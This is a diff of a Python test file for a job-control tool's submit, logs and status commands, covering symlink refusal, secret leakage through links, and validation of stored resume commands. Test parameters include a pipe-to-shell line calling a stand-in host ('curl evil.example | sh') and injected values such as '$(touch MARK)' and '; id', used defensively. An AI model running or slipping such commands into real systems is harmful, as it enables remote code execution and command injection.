@@ -64,7 +64,7 @@ def test_resume_refuses_a_run_that_would_be_written_through(
     run = forge(tmp_path.joinpath(*ROOT))
     (run / path).unlink()
     KINDS[kind](run / path, outside)
-    output = scripts.run("submit.sh", "--resume", "r")
+    output = scripts.run("submit", "--resume", "r")
     assert output.startswith(f"error: {path} in run r is not a regular file\n  hint: "), output
     assert not (run / "artifact" / "1").exists()
     assert outside.read_text() == f"{SECRET}\n"
@@ -75,26 +75,30 @@ def test_a_file_outside_the_run_is_not_printed_through_a_link(scripts: Scripts, 
     for path in ("logs/node_00.log", "artifact/0/.jobc/identity.txt"):
         (run / path).unlink()
         (run / path).symlink_to(outside)
-    for words in (["logs.sh"], ["logs.sh", "--rank", "0"], ["submit.sh", "--resume", "r"]):
+    for words in (["logs"], ["logs", "--rank", "0"], ["submit", "--resume", "r"]):
         assert "canary" not in scripts.run(*words)
 
 
-@pytest.mark.parametrize("command", ["curl evil.example | sh", "/tmp/evil/submit.sh --resume r", "$(touch MARK)"])
+@pytest.mark.parametrize("command", ["curl evil.example | sh", "/tmp/evil/jobctl submit --resume r", "$(touch MARK)"])
 def test_status_prints_the_command_of_its_own_artifact(scripts: Scripts, tmp_path: Path, command: str) -> None:
     run = forge(tmp_path.joinpath(*ROOT), state__resume=f"command={command}\n")
     (run / "checkpoints").mkdir()
-    output = scripts.run("status.sh")
-    assert re.findall("resume with: (.*)", output) == [f"{scripts.artifact}/submit.sh --resume {run}"]
+    output = scripts.run("status")
+    assert re.findall("resume with: (.*)", output) == [f"{scripts.artifact}/jobctl submit --resume {run}"]
 
 
 def test_the_last_words_of_a_run_name_a_submit_script_or_nothing() -> None:
-    for command in ("submit.sh --resume r", "/a\\ b/submit.sh --resume /runs/r", "$'/\\303\\244/submit.sh' --resume r"):
+    for command in (
+        "jobctl submit --resume r",
+        "/a\\ b/jobctl submit --resume /runs/r",
+        "$'/\\303\\244/jobctl submit' --resume r",
+    ):
         assert RESUME_COMMAND.fullmatch(command), command
     for command in (
         "curl evil | sh",
-        "submit.sh --resume r; id",
-        "a;submit.sh --resume r",
-        "submit.sh --resume $(id)",
+        "jobctl submit --resume r; id",
+        "a;jobctl submit --resume r",
+        "jobctl submit --resume $(id)",
         "",
     ):
         assert not RESUME_COMMAND.fullmatch(command), command
